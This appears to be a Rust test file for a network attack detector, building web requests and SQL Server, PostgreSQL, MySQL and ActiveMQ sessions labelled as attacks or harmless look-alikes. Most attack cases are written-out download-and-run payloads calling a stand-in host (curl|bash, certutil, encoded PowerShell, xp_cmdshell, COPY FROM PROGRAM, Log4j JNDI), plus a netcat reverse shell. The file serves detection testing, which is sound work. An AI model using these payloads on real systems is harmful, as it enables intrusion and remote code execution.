//! Further ways to put a command line into a request, and texts that resemble them; and services that run what they are told.

use crate::messages::{answer, base64, chunked, form, get, percent, post};
use crate::table::{ATTEMPT, NOTHING, Table, Way};

/// UTF-16, as Windows has it.
fn utf16(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

#[test]
fn command_lines_of_other_kinds() {
    let mut table = Table::default();
    let ok = answer("text/html", b"ok");
    for target in [
        "/cgi-bin/test?x=;bash+<(curl+-s+http://145.95.1.2/x)",
        "/cgi-bin/test?x=;python+-c+%22import+urllib;urllib.urlretrieve('http://145.95.1.2/x','/tmp/x')%22;sh+/tmp/x",
        "/cgi-bin/test?x=;perl+-MLWP::Simple+-e+'getstore(%22http://145.95.1.2/x%22,%22/tmp/x%22)';perl+/tmp/x",
        "/cgi-bin/test?x=;nc+145.95.1.2+4444+>+/tmp/x;chmod+777+/tmp/x;/tmp/x",
        "/cgi-bin/test?x=;exec+3<>/dev/tcp/145.95.1.2/80;echo+-e+%22GET+/x+HTTP/1.0%5Cn%5Cn%22>%263;cat+<%263+|+sh",
        "/cgi-bin/test?x=;echo+-e+%22%5Cx77%5Cx67%5Cx65%5Cx74%5Cx20http://145.95.1.2/x+-O+/tmp/x;sh+/tmp/x%22|sh",
        "/x.asp?c=certutil+-urlcache+-f+http://cnc.evil.example/a.exe+a.exe+%26+a.exe",
    ] {
        table.web(target, ATTEMPT, None, &get(target), &ok);
    }
    let groovy = "println \"wget http://145.95.1.2/x -O /tmp/x\".execute().text; println \"sh /tmp/x\".execute().text";
    table.web("Groovy, by Jenkins", ATTEMPT, None, &form("/script", &format!("script={}", percent(groovy))), &ok);
    let php = "file_put_contents('/tmp/x',file_get_contents('http://145.95.1.2/x'));system('sh /tmp/x');";
    table.web("calls of PHP", ATTEMPT, None, &form("/x.php", &format!("c={}", percent(php))), &ok);
    let coded = base64(&utf16("IEX ((new-object net.webclient).downloadstring('http://145.95.1.2/a.ps1'))"));
    let coded = format!("c={}", percent(&format!("powershell.exe -NoP -W Hidden -Enc {coded}")));
    table.web("PowerShell, coded and in chunks", ATTEMPT, None, &chunked(&form("/x.asp", &coded), 5), &ok);
    for (name, kinds, target, body) in [
        (
            "an option of a shell's",
            ATTEMPT,
            "/mgmt/tm/util/bash",
            r#"{"command":"run","utilCmdArgs":"-c 'curl -s http://145.95.1.2/x.sh | bash'"}"#,
        ),
        ("Log4j, in escapes", ATTEMPT, "/api", r#"{"m":"\u0024\u007bjndi:ldap://145.95.1.2/a\u007d"}"#),
        (
            "a page of instructions",
            NOTHING,
            "/api/readme",
            r##"{"content":"# Install\n\n```\ncurl -fsSL https://example.org/install.sh | bash\n```\nThen read the manual."}"##,
        ),
        (
            "a notebook",
            NOTHING,
            "/api/a.ipynb",
            r#"{"source":"import requests\nr = requests.get('http://10.0.0.5:8000/data.json')\nprint(r.json())"}"#,
        ),
        (
            "lines of a log",
            NOTHING,
            "/loki/api/v1/push",
            r#"{"values":[["1","145.1.1.1 - - \"GET /shell?cd+/tmp;wget+http://145.95.1.2/jaws;sh+/tmp/jaws HTTP/1.1\" 404"]]}"#,
        ),
    ] {
        table.web(name, kinds, None, &post(target, "application/json", body.as_bytes()), &ok);
    }
    for (name, target) in [
        ("a search", "/docs/search?q=curl+-sSL+https%3A%2F%2Fget.docker.com+%7C+sh"),
        ("a shell tied to netcat", "/x?x=;rm+/tmp/f;mkfifo+/tmp/f;cat+/tmp/f|/bin/sh+-i+2>%261|nc+145.95.1.2+4444+>/tmp/f"),
        ("a session's number", "/app;jsessionid=1A2B?next=http://145.95.1.2/a.sh"),
    ] {
        table.web(name, NOTHING, None, &get(target), &ok);
    }
    let steps = b"FROM alpine\nRUN apk add curl && curl -fsSL https://example.org/x -o /usr/local/bin/x && chmod +x /usr/local/bin/x\n";
    table.web("a container's recipe", NOTHING, None, &post("/v1.41/build?t=x", "application/x-tar", steps), &ok);
    table.check();
}

#[test]
fn services_that_run_what_they_are_told() {
    let mut table = Table::default();
    let asked = b"\x12\x01\0\x2f\0\0\x01\0\0\0\x1a\0\x06\x01\0\x20\0\x01\x02\0\x21\0\x01\x03\0\x22\0\x04\x04\0\x26\0\x01\xff\x0b\0\x06\xb0\0\0\x02\0\0\0\0\0\0";
    let agreed =
        b"\x04\x01\0\x2b\0\0\x01\0\0\0\x1a\0\x06\x01\0\x20\0\x01\x02\0\x21\0\x01\x03\0\x22\0\0\x04\0\x22\0\x01\xff\x0c\0\x10\0\0\x02\0";
    let batch = |sql: &str| {
        let text = utf16(sql);
        let head = [22_u32.to_le_bytes(), 18_u32.to_le_bytes()].concat();
        let rest = [&head[..], &[2, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0], &text].concat();
        [&[1, 1][..], &(rest.len() as u16 + 8).to_be_bytes(), &[0, 0, 1, 0], &rest].concat()
    };
    let query = |text: &str| [b"Q".as_slice(), &(text.len() as u32 + 5).to_be_bytes(), text.as_bytes(), b"\0"].concat();
    for (name, kinds, sql) in [
        (
            "a procedure that runs",
            ATTEMPT,
            "EXEC xp_cmdshell 'certutil -urlcache -split -f http://145.95.1.2/a.exe C:\\Windows\\Temp\\a.exe & C:\\Windows\\Temp\\a.exe'",
        ),
        ("a question for SQL Server", NOTHING, "SELECT name FROM sys.databases WHERE name LIKE 'curl%'"),
    ] {
        table.add(
            name,
            Way::In,
            1433,
            kinds,
            None,
            &[(true, asked), (false, agreed), (true, &batch(sql)), (false, b"\x04\x01\0\x09\0\0\x01\0\xfd")],
        );
    }
    let (hello, ready) = (b"\0\0\0\x21\0\x03\0\0user\0postgres\0database\0x\0\0", b"R\0\0\0\x08\0\0\0\0Z\0\0\0\x05I");
    for (name, kinds, sql) in [
        (
            "a table of a program's output",
            ATTEMPT,
            "COPY x FROM PROGRAM 'echo Y3VybCAtcyBodHRwOi8vMTQ1Ljk1LjEuMi94LnNoIHwgc2g= | base64 -d | bash'",
        ),
        ("a table of a program's output, plain", ATTEMPT, "CREATE TABLE x(c text);COPY x FROM PROGRAM 'curl http://145.95.1.2/x.sh|bash'"),
        ("a table of a program that looks around", NOTHING, "COPY x FROM PROGRAM 'id'"),
        ("a question for PostgreSQL", NOTHING, "INSERT INTO notes VALUES ('use curl http://145.95.1.2/a.sh to see whether it is up')"),
    ] {
        table.add(name, Way::In, 5432, kinds, None, &[(true, hello), (false, ready), (true, &query(sql)), (false, b"C\0\0\0\x0bCOPY 0\0")]);
    }
    let greeting = b"\x0a5.7.33\0\x01\0\0\0abcdefgh\0\xff\xf7\x08\x02\0\xff\x81\x15\0\0\0\0\0\0\0\0\0\0abcdefghijkl\0";
    let packet = |number: u8, body: &[u8]| [&(body.len() as u32).to_le_bytes()[..3], &[number], body].concat();
    let login = packet(1, &[&b"\x85\xa6\x03\0\0\0\0\x01\x21"[..], &[0; 23], b"root\0\0"].concat());
    for (name, kinds, sql) in [
        ("a function that runs", ATTEMPT, "select sys_exec('wget http://145.95.1.2/a -O /tmp/a;chmod 777 /tmp/a;/tmp/a')"),
        ("a question for MySQL", NOTHING, "insert into log values ('cd /tmp; wget http://145.95.1.2/a; sh a')"),
    ] {
        let asked = packet(0, &[b"\x03", sql.as_bytes()].concat());
        let said = [(false, packet(0, greeting)), (true, login.clone()), (false, packet(2, &[0; 7])), (true, asked)];
        let said: Vec<(bool, &[u8])> = said.iter().map(|(by_client, bytes)| (*by_client, &bytes[..])).collect();
        table.add(name, Way::In, 3306, kinds, None, &said);
    }
    let bean = b"\0\0\0\x73\x1f\0\0\0\0\0\0\0\0\0\x01\x01\0\x42org.springframework.context.support.ClassPathXmlApplicationContext\x01\0\x1chttp://145.95.1.2/poc.xml";
    table.add(
        "a description of an application",
        Way::In,
        61616,
        ATTEMPT,
        None,
        &[(false, b"\0\0\0\x41\x01ActiveMQ\0\0\0\x0c"), (true, bean)],
    );
    let lines = b"<134>May  1 00:00:00 www nginx: 145.1.1.1 \"GET /shell?cd+/tmp;wget+http://145.95.1.2/jaws;sh+/tmp/jaws HTTP/1.1\" 404\n<134>May  1 00:00:01 www sshd[3]: ok\n";
    table.add("a log", Way::In, 514, NOTHING, None, &[(true, lines)]);
    table.check();
}
